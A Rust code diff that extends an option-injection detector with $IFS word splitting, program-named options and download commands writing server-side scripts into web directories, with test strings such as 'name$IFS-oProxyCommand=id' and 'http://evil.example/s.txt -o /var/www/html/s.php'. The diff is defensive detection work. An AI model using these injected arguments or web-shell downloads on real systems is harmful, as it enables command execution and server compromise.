@@ -84,9 +84,80 @@ pub(super) fn ghostscript_pipe(v: &[u8]) -> bool {
     })
 }
 
-/// An option opens a word: the value's start, or a blank or quote before the dash.
+/// An option opens a word: the value's start, a blank or quote before the dash, or `$IFS`
+/// (`name$IFS-oProxyCommand=id`), which the shell splits into a blank.
 fn opens_word(v: &[u8], at: usize) -> bool {
-    at == 0 || matches!(v[at - 1], b' ' | b'\t' | b'\'' | b'"' | b'+')
+    at == 0
+        || matches!(v[at - 1], b' ' | b'\t' | b'\'' | b'"' | b'+')
+        || v[..at].ends_with(b"$IFS")
+        || v[..at].ends_with(b"${IFS}")
+}
+
+/// Endings of option names (without dashes, lower case) whose value is a program or a
+/// command line, in whatever tool: tar's `--use-compress-program`, `--to-command`,
+/// rsync's `--rsh-command`, `--diff-cmd`, `--command=`. A data option never takes a program.
+const PROGRAM_NAME_ENDINGS: &[&[u8]] = &[b"command", b"program", b"cmd"];
+
+/// `--command=id`, `--compress-program=sh`, `--post-cmd=/bin/sh`: a double-dash option
+/// named for a program, its value glued on with `=`, and the value's first word a command
+/// the shell or `execvp` finds.
+fn program_named_option(name: &[u8], v: &[u8], after: usize) -> bool {
+    let lower_end = |e: &[u8]| {
+        name.len() >= e.len()
+            && name[name.len() - e.len()..].eq_ignore_ascii_case(e)
+            && (name.len() == e.len() || matches!(name[name.len() - e.len() - 1], b'-' | b'_'))
+    };
+    if v.get(after) != Some(&b'=') || !PROGRAM_NAME_ENDINGS.iter().any(|e| lower_end(e)) {
+        return false;
+    }
+    let k = skip_blanks_and_quote(v, after + 1);
+    let rest = &v[k..];
+    let len = rest
+        .iter()
+        .take(64)
+        .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-'))
+        .count();
+    let word = &rest[..len];
+    len > 0
+        && (super::known_command(word) || (word.first() == Some(&b'/') && super::path_to_run(word)))
+}
+
+/// Server-side script extensions: a file written under one of them in a web root is a web
+/// shell the next request runs.
+const SCRIPT_EXTENSIONS: &[&[u8]] = &[
+    b"php", b"php3", b"php4", b"php5", b"php7", b"phtml", b"phar", b"jsp", b"jspx", b"asp",
+    b"aspx", b"ashx", b"asmx", b"cer", b"cgi", b"shtml",
+];
+
+/// `-o /var/www/html/s.php`, `--output-document=../uploads/x.jsp`: an output option of
+/// curl or wget given a path (a directory in it) to a server-side script. A download tool
+/// told to write a script into a directory is planting a web shell; `-o out.txt` is not.
+fn script_output_option(name: &[u8], v: &[u8], after: usize) -> bool {
+    let output = matches!(name, b"o" | b"O")
+        || name.eq_ignore_ascii_case(b"output")
+        || name.eq_ignore_ascii_case(b"output-document")
+        || name.eq_ignore_ascii_case(b"output-file");
+    if !output || !matches!(v.get(after), Some(b'=' | b' ' | b'\t' | b'+')) {
+        return false;
+    }
+    let k = skip_blanks_and_quote(v, after + 1);
+    let rest = &v[k..];
+    let len = rest
+        .iter()
+        .take(256)
+        .take_while(|&&c| !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b';' | b'|' | b'&'))
+        .count();
+    let path = &rest[..len];
+    let Some(slash) = path.iter().rposition(|&c| c == b'/' || c == b'\\') else {
+        return false;
+    };
+    let file = &path[slash + 1..];
+    file.iter().rposition(|&c| c == b'.').is_some_and(|d| {
+        d > 0
+            && SCRIPT_EXTENSIONS
+                .iter()
+                .any(|e| file[d + 1..].eq_ignore_ascii_case(e))
+    })
 }
 
 fn dangerous_option(v: &[u8], at: usize) -> bool {
@@ -119,7 +190,12 @@ fn dangerous_option(v: &[u8], at: usize) -> bool {
         if name.eq_ignore_ascii_case(b"exec") {
             return glued_value(v, after);
         }
-        return command_option(name) && with_value(v, after);
+        return (command_option(name) && with_value(v, after))
+            || program_named_option(name, v, after)
+            || script_output_option(name, v, after);
+    }
+    if script_output_option(name, v, after) {
+        return true;
     }
     match name {
         // ssh: `-oProxyCommand=…`, `-o ProxyCommand=…`, `-o "ProxyCommand …"`.
@@ -317,6 +393,18 @@ mod tests {
             "--open-files-in-pager=id;",
             "-c diff.external=id",
             "-toolexec=id",
+            // Options named for a program, given one.
+            "--command=id",
+            "--compress-program=sh",
+            "--post-cmd=/bin/bash",
+            "x --diff_cmd=whoami",
+            // A download tool told to write a server-side script into a directory.
+            "http://evil.example/s.txt -o /var/www/html/s.php",
+            "-O ../uploads/shell.jsp",
+            "--output-document=/srv/www/x.aspx",
+            // `$IFS` splits words as a blank does.
+            "name$IFS-oProxyCommand=id",
+            "a${IFS}--upload-pack=id",
         ] {
             assert!(option_injection(v.as_bytes()), "{v}");
         }
@@ -347,6 +435,13 @@ mod tests {
             "pros -exec cons",
             "$ find . -name '*.py' -exec cat \\{} \\; | wc -l",
             "--exec \"before_dl:CMD\"",
+            "--command=build",
+            "--program=chemistry",
+            "--recommand=id",
+            "-o output.php",
+            "-o /tmp/report.pdf",
+            "--output=/var/www/html/index.html",
+            "$IFS-o",
         ] {
             assert!(!option_injection(v.as_bytes()), "{v}");
         }
